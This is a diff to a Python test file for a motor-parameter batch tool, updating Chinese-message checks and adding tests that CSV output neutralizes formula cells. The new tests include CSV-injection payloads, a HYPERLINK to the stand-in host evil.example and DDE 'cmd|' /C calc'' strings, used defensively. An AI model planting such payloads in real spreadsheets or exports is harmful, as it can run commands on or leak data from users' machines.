@@ -11,11 +11,10 @@ import sys
 
 import pytest
 
-from conftest import ROOT
+from conftest import ROOT, chinese
 from pulab import InputError
 from pulab.api import batch_json
 from pulab.analyses.batch import batch_csv, findings_counts, read_table
-from pulab.schema.messages import has_chinese
 
 sys.path.insert(0, str(ROOT / "tests/oracle"))
 import oracle  # noqa: E402
@@ -75,7 +74,7 @@ def test_bad_rows_are_reported_with_row_and_field_and_the_others_computed():
     assert errors["div0"].startswith("raw.FullFreq01: the firmware divides by zero")
     for r in rows:
         if r["error"]:
-            assert has_chinese(r["error"].split(": ", 1)[1]) and r["vendor.LD.value"] == ""
+            assert chinese(r["error_zh"]) and r["vendor.LD.value"] == ""
             assert r["error_zh"] != r["error"]
     assert rows[-1]["vendor.LD.value"] == rows[0]["vendor.LD.value"] == "1045"
 
@@ -90,7 +89,7 @@ def test_bad_rows_are_reported_with_row_and_field_and_the_others_computed():
 def test_a_bad_header_stops_the_batch_naming_the_column(text, field):
     with pytest.raises(InputError) as e:
         read_table(text)
-    assert e.value.field == field and has_chinese(e.value.message), e.value.message
+    assert e.value.field == field and chinese(e.value.message_zh), e.value.message
     out = json.loads(batch_json(json.dumps({"csv": text})))
     assert out["ok"] is False and out["field"] == field
 
@@ -149,3 +148,24 @@ def test_the_catalogue_generator_is_current():
     out = subprocess.run([sys.executable, str(ROOT / "tests/data/make_catalogue.py"), "--check"],
                          capture_output=True, text=True)
     assert out.returncode == 0, out.stdout
+
+
+@pytest.mark.parametrize("label", ['=HYPERLINK("http://evil.example/?x=1";"click")', "+1+cmd|' /C calc'!A0",
+                                   "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tleading tab", "\rleading CR"])
+def test_formula_like_cells_are_neutralized(label):
+    """OWASP's CSV-injection rule: such a cell comes back as text, prefixed with '."""
+    text = HEAD + '"' + label.replace('"', '""') + '"' + SEED_ROW[len("seed"):]
+    out = list(csv.reader(io.StringIO(batch_csv(text))))
+    cell = out[1][out[0].index("name")]
+    assert cell == "'" + label
+
+
+def test_negative_numbers_stay_numbers_and_formula_headers_are_neutralized():
+    text = "=cmd,name,motor.rated_voltage_v,motor.rated_current_a,motor.rated_freq_hz,motor.rs_ohm," \
+           "motor.ld_h [mH],motor.lq_h [mH],motor.bemf_v,motor.pole_pairs,drive.udc_v,drive.ts_s [us]\n" \
+           "-1.5e-3,-7,17,1.5,220,1.5,0.6,0.6,12,4,24,100\n"
+    out = list(csv.reader(io.StringIO(batch_csv(text))))
+    assert out[0][1] == "'=cmd"
+    assert out[1][1:3] == ["-1.5e-3", "-7"]
+    negative = [c for c in out[1] if c.startswith("-")]
+    assert negative and all(float(c) < 0 for c in negative)
